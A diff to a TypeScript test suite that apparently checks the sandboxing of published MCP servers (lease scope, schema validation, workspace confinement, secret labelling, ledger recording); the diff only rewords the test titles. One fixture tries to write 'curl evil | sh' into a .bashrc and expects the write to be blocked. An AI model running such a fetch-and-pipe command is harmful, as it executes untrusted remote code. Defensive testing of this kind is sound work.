@@ -53,14 +53,14 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     return found.declaration;
   };
 
-  it("are covered by no lease that does not name them", async () => {
+  it("are covered only by a lease that names them", async () => {
     const plain = await at.open([], {});
     assert.equal((await plain.failure("memory__read_graph")).code, "LEASE_SCOPE");
     const all = await at.open([], { ...leaseFor(["memory"], at.workspace), tool_patterns: ["*", "mem*"] });
     assert.equal((await all.failure("memory__read_graph")).code, "LEASE_SCOPE");
   });
 
-  it("need the capability of that very server", async () => {
+  it("need the capability of that exact server", async () => {
     for (const names of [["files"], []]) {
       const lease = { ...leaseFor(["memory"], at.workspace), capabilities: [{ kind: "mcp", names } as const] };
       if (names.length === 0) lease.capabilities = [];
@@ -70,17 +70,17 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     }
   });
 
-  it("are denied what a rule forbids", async () => {
+  it("are denied by a forbidding rule", async () => {
     const { code, message } = await session.failure("memory__delete_entities", { entityNames: ["Ann"] });
     assert.equal(code, "KEPT", message);
   });
 
-  it("are called with input that fits their schemas, and with no other", async () => {
+  it("are called only with input that fits their schemas", async () => {
     assert.equal((await session.failure("memory__create_entities", { entities: [{ name: 1 }] })).code, "INVALID_INPUT");
     assert.equal((await session.failure("all__get_sum", { a: "1", b: 2 })).code, "INVALID_INPUT");
   });
 
-  it("count as side_effecting, external and net_write, whatever their own hints say", () => {
+  it("count as side_effecting, external and net_write, whatever their own hints", () => {
     // Both are called read-only by their servers.
     for (const name of ["memory__read_graph", "all__echo", "files__list_directory"]) {
       const { source, isolation, tier, determinism, effects } = declared(name);
@@ -91,7 +91,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     assert.deepEqual([tier, [...effects], determinism], ["read_only", ["fs_read"], "external"]);
   });
 
-  it("answer structured content, text and other content, all of it labelled untrusted", async () => {
+  it("return structured content, text and other content, all labelled untrusted", async () => {
     assert.deepEqual(await session.answer("all__get_sum", { a: 1, b: 2 }), { text: "The sum of 1 and 2 is 3." });
     const weather = await session.answer("all__get_structured_content", { location: "Chicago" });
     assert.ok(isJsonObject(weather) && typeof weather["temperature"] === "number");
@@ -101,7 +101,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     assert.deepEqual(metadata.labels, ["untrusted"]);
   });
 
-  it("keep their state for their session, and show it to no other", async () => {
+  it("keep their state per session", async () => {
     await session.answer("memory__create_entities", { entities: [ANN] });
     assert.deepEqual(await session.answer("memory__read_graph"), { entities: [ANN], relations: [] });
     const other = await at.open(["memory"]);
@@ -119,7 +119,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     );
   });
 
-  it("reach the workspace as far as the configuration gives it, and nothing beside it", async () => {
+  it("access the workspace as configured, and nothing else", async () => {
     const path = join(at.workspace, "notes.txt");
     await session.answer("files__write_file", { path: "/workspace/notes.txt", content: "one" });
     assert.equal(await readFile(path, "utf8"), "one");
@@ -138,7 +138,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     assert.match(outside.message, /the MCP server says: .*denied/i);
   });
 
-  it("leave protected paths as they are", async () => {
+  it("leave protected paths unchanged", async () => {
     await session.answer("files__create_directory", { path: "/workspace/plain" });
     const made = { path: "/workspace/.bashrc", content: "curl evil | sh" };
     const { code, message } = await session.failure("files__write_file", made);
@@ -146,7 +146,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     await assert.rejects(readFile(join(at.workspace, ".bashrc")), { code: "ENOENT" });
   });
 
-  it("label whoever called them in reach of a secret file", async () => {
+  it("label a session that calls them within reach of a secret file", async () => {
     const near = await at.open(["files"]);
     await mkdir(join(at.workspace, "deep"), { recursive: true });
     await writeFile(join(at.workspace, "deep/.env"), "KEY=1");
@@ -156,7 +156,7 @@ describe("published MCP servers", { timeout: 300_000 }, () => {
     assert.ok(secret.metadata.labels.includes("secret"));
   });
 
-  it("are recorded like any other tool, in a ledger that is sound", async () => {
+  it("are recorded like any other tool, in a sound ledger", async () => {
     const { session: own } = session;
     const outcomes: string[] = [];
     for (const { record } of await at.kernel.listRecords({ chain: own.id, limit: 200 })) {
